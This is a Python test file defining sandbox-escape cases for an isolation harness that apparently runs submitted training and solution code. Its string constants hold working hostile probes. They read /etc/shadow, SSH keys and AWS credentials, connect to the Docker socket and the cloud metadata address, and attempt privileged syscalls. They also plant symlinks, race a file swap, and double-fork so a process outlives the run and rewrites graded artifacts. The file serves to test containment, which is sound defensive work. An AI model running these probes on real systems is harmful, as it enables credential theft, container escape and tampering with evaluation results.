"""G1: out of the room, or into a neighbour's."""

from typing import Final

from tests.attack.case import Case, Evidence, Says

TOLD: Final = {"adds": Says("error", "raised", {"error": "Seen"})}
TOLD_IN_TRAINING: Final = {"trains": Says("error", "command_failed")}
PASSED: Final = {"adds": Says("passed"), "holds_later": Says("passed")}
TRAINED: Final = {
    "trains": Says("passed"),
    "keeps_the_contract": Says("passed"),
    "predicts_later": Says("passed"),
}
UNREADABLE: Final = {"trains": Says("failed", "artifact_unreadable", {"path": "/artifacts"})}
SECRETS: Final = """
import os
from app.telling import tell
WANTED = [
    '/etc/shadow', '/proc/1/environ', '/proc/1/root', '/proc/1/cwd', '/proc/1/mem',
    '/run/secrets', '/var/run/docker.sock', '/run/docker.sock', '~/.aws/credentials',
    '~/.ssh/id_rsa', '/root', '/home', '/warehouse', '/proc/kcore', '/proc/keys', '/sys/kernel',
    '@FILE@', '@TREE@', '@HOME@', '@HOME@/secret', '@HOME@/db.sqlite3', '@HOME@/truth',
    '@ROOT@', '@ROOT@/simulator/settings.py', '@ROOT@/.venv',
]

def add(a, b):
    read = []
    for path in map(os.path.expanduser, WANTED):
        try:
            found = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(64)
        except OSError:
            continue
        if found:
            read.append([path, str(found)[:80]])
    tell(read=read, environment=sorted(os.environ))
"""
ENVIRONMENT: Final = [
    *("HOME", "LANG", "OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "PATH", "PYTHONHASHSEED"),
    *("SIM_ARTIFACTS", "SIM_DATA", "SIM_SEED"),
]

SOCKETS: Final = """
import socket
from app.telling import tell
NAMES = [
    '/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock',
    '/run/podman/podman.sock', '/run/dbus/system_bus_socket', '/run/systemd/private',
    '/run/redis/redis.sock', '/run/postgresql/.s.PGSQL.5432', '@HOME@/redis.sock',
    '@HOME@/runner.sock', '@SOCKET@', '\\0@ABSTRACT@', '\\0/tmp/dbus', '\\0/containerd-shim',
]

def add(a, b):
    reached = []
    for name in NAMES:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try:
                with socket.socket(socket.AF_UNIX, kind) as line:
                    line.settimeout(0.2)
                    line.connect(name)
                    reached.append(name)
            except OSError:
                pass
    tell(reached=reached)
"""

REACH: Final = """
import socket

PLACES = [
    ('127.0.0.1', @TCP4@), ('::1', @TCP6@), ('127.0.0.1', 6379), ('127.0.0.1', 5432),
    ('127.0.0.1', 8123), ('127.0.0.1', 9000), ('169.254.169.254', 80), ('10.0.0.1', 53),
    ('172.17.0.1', 2375), ('fd00:ec2::254', 80),
]
DATAGRAMS = [('127.0.0.1', @UDP4@), ('::1', @UDP6@), ('169.254.169.254', 53)]

def reached():
    found = []
    for kind, places in ((socket.SOCK_STREAM, PLACES), (socket.SOCK_DGRAM, DATAGRAMS)):
        for host, port in places:
            try:
                family = socket.AF_INET6 if ':' in host else socket.AF_INET
                with socket.socket(family, kind) as line:
                    line.settimeout(0.3)
                    line.connect((host, port))
                    line.send(b'here I am')
                    found.append([host, port, str(line.recv(100))])
            except OSError:
                pass
    for family in (socket.AF_NETLINK, socket.AF_PACKET, getattr(socket, 'AF_VSOCK', 40)):
        try:
            with socket.socket(family, socket.SOCK_RAW) as line:
                line.bind((0, 0))
                found.append(['raw', int(family), ''])
        except OSError:
            pass
    try:
        found.append([str(socket.getaddrinfo('example.org', 80)), 0, ''])
    except OSError:
        pass
    return found
"""
REACH_IN_CALL: Final = """
from app.reach import reached
from app.telling import tell

def add(a, b):
    tell(reached=reached())
"""
REACH_IN_SERVICE: Final = """
from http.server import HTTPServer
from app import honest_service
from app.reach import reached

FOUND = reached()

class Well(honest_service.Well):
    def _say(self, status, body):
        super()._say(status, repr(FOUND).encode() if FOUND else body)

HTTPServer(('127.0.0.1', 8000), Well).serve_forever()
"""

PRIVILEGES: Final = """
import ctypes, os, stat
from app.telling import tell
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {  # x86-64; one that is missing elsewhere fails all the same
    'mount': (165, b'none', b'/tmp', b'tmpfs', 0, 0), 'umount': (166, b'/data', 2),
    'unshare-user': (272, 0x10000000), 'unshare-mount': (272, 0x20000),
    'clone-user': (56, 0x10000000 | 17, 0, 0, 0, 0), 'setns': (308, 0, 0),
    'chroot': (161, b'/tmp'), 'pivot_root': (155, b'/', b'/'),
    'mknod': (133, b'/tmp/n', 0o20600, 0x103), 'init_module': (175, 0, 0, b''),
    'finit_module': (313, 0, b'', 0), 'bpf': (321, 0, 0, 0), 'ptrace': (101, 16, 1, 0, 0),
    'process_vm_readv': (310, 1, 0, 0, 0, 0, 0), 'io_uring_setup': (425, 1, 0),
    'keyctl': (250, 0, 0), 'perf_event_open': (298, 0, 0, -1, -1, 0),
    'userfaultfd': (323, 0), 'open_by_handle_at': (304, -100, 0, 0),
    'setuid': (105, 0), 'setgid': (106, 0), 'kexec_load': (246, 0, 0, 0, 0),
    'sethostname': (170, b'x', 1), 'reboot': (169, 0, 0, 0, 0), 'swapon': (167, b'/tmp', 0),
    'personality': (135, 0x40000), 'memfd_secret': (447, 0), 'iopl': (172, 3),
}

def add(a, b):
    done = [name for name, words in NUMBERS.items() if libc.syscall(*words) >= 0]
    marked = []
    for root, _, names in os.walk('/'):
        if root.startswith('/proc'):
            continue
        for name in names:
            try:
                if os.lstat(os.path.join(root, name)).st_mode & (stat.S_ISUID | stat.S_ISGID):
                    marked.append(os.path.join(root, name))
            except OSError:
                pass
    status = dict(line.split(':', 1) for line in open('/proc/self/status'))
    told = {name: status[name].strip() for name in ('CapEff', 'CapPrm', 'CapBnd', 'NoNewPrivs', 'Seccomp')}
    tell(done=done, setuid=marked, **told)
"""
NO_PRIVILEGES: Final = {
    "done": [],
    "setuid": [],
    "CapEff": "0" * 16,
    "CapPrm": "0" * 16,
    "CapBnd": "0" * 16,
    "NoNewPrivs": "1",
    "Seccomp": "2",
}

LINKS: Final = """
import os, runpy

NAMES = [
    'stdin', 'stdout', 'stderr', 'meta', 'meta.json', 'result', 'result.json', 'results.json',
    'run.sh', 'entry.py', 'probe.py', 'main.py', '_syntax.py', 'driver', 'verdict', 'box', 'out',
]
runpy.run_module('app.honest_train', run_name='__main__')
for folder in ('/project', '/project/app', '/tmp', '/dev/shm'):
    for name in NAMES:
        path = os.path.join(folder, name)
        if not os.path.lexists(path):
            os.symlink('@TARGET@', path)
for path in ('/project/app/model.py', '/project/app/solution.py'):
    os.unlink(path)
    os.symlink('@TARGET@', path)
"""
LINKS_IN_ARTIFACTS: Final = """
import os, runpy
runpy.run_module('app.honest_train', run_name='__main__')
os.symlink('@TARGET@', '/artifacts/notes')
"""

DESCRIPTORS: Final = """
import os
from app.telling import tell

open_, left = [], []
for number in range(4096):
    try:
        what = os.readlink(f'/proc/self/fd/{number}')
        os.fstat(number)
    except OSError:
        continue
    open_.append([number, what.partition(':')[0]])
    for way in (f'/proc/self/fd/{number}/..', f'/proc/self/fd/{number}/../../etc/shadow'):
        try:
            left.append([number, os.listdir(way)])
        except OSError:
            pass
    try:
        os.fchdir(number)
        left.append([number, os.getcwd()])
    except OSError:
        pass
tell(open=open_, left=left)
"""
DESCRIPTORS_IN_CALL: Final = """
import os, stat
from app.telling import tell

def add(a, b):
    files = []
    for number in range(4096):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(mode) or stat.S_ISREG(mode) or stat.S_ISBLK(mode):
            files.append(number)
    tell(files=files)
"""

OUTLIVES: Final = """
import os, runpy, time
runpy.run_module('app.honest_train', run_name='__main__')
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(3):
            os.close(number)
        until = time.monotonic() + 60
        time.sleep(0.05)
        while time.monotonic() < until:
            try:
                open('/artifacts/predictions.csv', 'w').write('rewritten')
                open('/artifacts/model.json', 'w').write('rewritten')
            except OSError:
                pass
            time.sleep(0.01)
    os._exit(0)
"""

LEAVES_A_CHILD: Final = """
import ctypes, os, time
from app.honest import odd

TIMES = [0]

def add(a, b):
    TIMES[0] += 1
    if TIMES[0] == 1 and os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        ctypes.CDLL(None).prctl(15, b'left-behind', 0, 0, 0)
        time.sleep(60)
        os._exit(0)
    if TIMES[0] == 1:
        time.sleep(1.5)
    return a + b
"""

MARKERS: Final = """
import ctypes, fcntl, os, secrets, socket, time
from app.telling import tell
MINE = f'marker-{secrets.token_hex(8)}'
FOLDERS = ['/tmp', '/var/tmp', '/dev/shm', '/dev/mqueue', '/project', '/artifacts', '/data', '/run',
           '/runtime', '/warehouse', '/room', '/', '/home', os.path.expanduser('~')]
KEPT = []

def marks():
    found = set()
    for folder in FOLDERS:
        try:
            found |= {name for name in os.listdir(folder) if name.startswith('marker-')}
        except OSError:
            pass
    return found - {MINE}

def taken():
    # What only one can hold: a name, a piece of memory, a lock on a file that all may read.
    door = socket.socket(socket.AF_UNIX)
    KEPT.append(door)
    try:
        door.bind('\\0marker')
    except OSError:
        yield 'the name of a socket'
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.shmget(0x5151, 4096, 0o3666) < 0 and ctypes.get_errno() == 17:
        yield 'a piece of memory'
    for path in ('/runtime/bin/python', '/data/pairs.parquet', '/etc/passwd'):
        try:
            KEPT.append(open(path))
            fcntl.flock(KEPT[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            yield f'the lock of {path}'
        except OSError:
            pass

def add(a, b):
    found = marks()
    for folder in FOLDERS:
        try:
            open(os.path.join(folder, MINE), 'w').close()
        except OSError:
            pass
    found |= set(taken())
    time.sleep(0.5)
    tell(found=sorted(found | marks()))
"""

TRIES_THE_HOST: Final = """
import socket
from app.honest import add, odd

try:
    open('@FILE@', 'a').write('I ran unguarded')
except OSError:
    pass
try:
    socket.create_connection(('127.0.0.1', @TCP4@), 1).send(b'I ran unguarded')
except OSError:
    pass
"""

SWAPS: Final = """
import os, runpy, time
runpy.run_module('app.honest_train', run_name='__main__')
kept = open('/artifacts/predictions.csv').read()
if os.fork() == 0:
    while True:
        os.symlink('@FILE@', '/artifacts/link')
        os.replace('/artifacts/link', '/artifacts/predictions.csv')
        open('/artifacts/fresh', 'w').write(kept)
        os.replace('/artifacts/fresh', '/artifacts/predictions.csv')
time.sleep(0.2)
"""


def _ended_soon(evidence: Evidence) -> list[str]:
    """The child would have held the run for a minute."""
    return [f"the run took {evidence.seconds:.0f} s"] if evidence.seconds > 30 else []


HONEST: Final = {"app/honest.py": "@REFERENCE:app/solution.py@"}
HONEST_TRAINING: Final = {"app/honest_train.py": "@REFERENCE:app/train.py@"}

CASES: Final = (
    Case(
        id="ESC-01",
        does="opens the host's secrets, settings and canary; lists the environment",
        files={"app/solution.py": SECRETS},
        checks=TOLD,
        seen={"read": [], "environment": ENVIRONMENT},
    ),
    Case(
        id="ESC-02",
        does="connects to Docker, containerd, D-Bus, Redis and the runner by path and name",
        files={"app/solution.py": SOCKETS},
        checks=TOLD,
        seen={"reached": []},
    ),
    Case(
        id="ESC-03",
        does="asks DNS, TCP and UDP, v4 and v6, for databases, metadata and a listener",
        files={"app/reach.py": REACH, "app/solution.py": REACH_IN_CALL},
        checks=TOLD,
        seen={"reached": []},
        sees="M-NET",
    ),
    Case(
        id="ESC-03/service",
        does="the same from a service, whose room has a loopback",
        stage="service",
        files={
            "app/honest_service.py": "@REFERENCE:app/service.py@",
            "app/reach.py": REACH,
            "app/service.py": REACH_IN_SERVICE,
        },
        blame="passed",
        checks={"answers": Says("passed"), "says_when_it_is_not_ready": Says("passed")},
    ),
    Case(
        id="ESC-04",
        does="looks for setuid programs; mounts, unshares, makes nodes, loads modules",
        files={"app/solution.py": PRIVILEGES},
        checks=TOLD,
        seen=NO_PRIVILEGES,
        sees="M-POLICY",
    ),
    Case(
        id="ESC-05",
        does="leaves links to the canary wherever a harness could write later",
        stage="train",
        files={**HONEST_TRAINING, "app/train.py": LINKS.replace("@TARGET@", "@FILE@")},
        blame="passed",
        checks=TRAINED,
    ),
    Case(
        id="ESC-06",
        does="leaves linked folders for a chown, chmod or removal that follows them",
        stage="train",
        files={**HONEST_TRAINING, "app/train.py": LINKS.replace("@TARGET@", "@TREE@")},
        blame="passed",
        checks=TRAINED,
    ),
    Case(
        id="ESC-06/artifacts",
        does="the same in the folder that is collected",
        stage="train",
        files={
            **HONEST_TRAINING,
            "app/train.py": LINKS_IN_ARTIFACTS.replace("@TARGET@", "@TREE@"),
        },
        blame="failed",
        checks=UNREADABLE,
        sees="M-CONTRACT",
    ),
    Case(
        id="ESC-07",
        does="lists its descriptors and climbs out through each",
        stage="train",
        files={"app/train.py": DESCRIPTORS},
        checks=TOLD_IN_TRAINING,
        seen={"open": [[0, "/dev/null"], [1, "pipe"], [2, "pipe"]], "left": []},
        walls=("descriptors",),
    ),
    Case(
        id="ESC-07/call",
        does="looks for a file or folder among the descriptors of a call",
        files={"app/solution.py": DESCRIPTORS_IN_CALL},
        checks=TOLD,
        seen={"files": []},
    ),
    Case(
        id="ESC-08",
        does="forks twice, closes its streams, waits, and rewrites what was made",
        stage="train",
        files={**HONEST_TRAINING, "app/train.py": OUTLIVES},
        blame="passed",
        checks=TRAINED,
        also=_ended_soon,
    ),
    Case(
        id="ESC-08/keeper",
        does="leaves a child, and the keeper of its room is killed",
        files={**HONEST, "app/solution.py": LEAVES_A_CHILD},
        blame="passed",
        checks=PASSED,
        play="keeper killed",
        walls=("parent_death",),
        not_on={"container": "the keeper is the container's first process: the kernel ends all"},
    ),
    Case(
        id="ESC-09",
        does="eight at once leave marks wherever they can write and look for others'",
        files={"app/solution.py": MARKERS},
        checks=TOLD,
        seen={"found": []},
        play="crowded",
        walls=("network", "ipc", "own_files"),
    ),
    Case(
        id="ESC-11",
        does="swaps a file for a link to the canary while the run ends",
        stage="train",
        files={**HONEST_TRAINING, "app/train.py": SWAPS},
        blame=("passed", "failed"),
        checks={
            "trains": (Says("passed"), Says("failed", "artifact_unreadable")),
            "keeps_the_contract": (Says("passed"), Says("skipped")),
        },
        play="collected again",
    ),
    Case(
        id="ESC-12",
        does="the host lacks seccomp, walls or user namespaces when a job comes",
        files={**HONEST, "app/solution.py": TRIES_THE_HOST},
        blame="passed",
        checks=PASSED,
        play="unsafe host",
    ),
    Case(
        id="ESC-13",
        does="bwrap is missing, or no engine answers, when a job comes",
        files={**HONEST, "app/solution.py": TRIES_THE_HOST},
        blame="passed",
        checks=PASSED,
        play="no program",
    ),
)
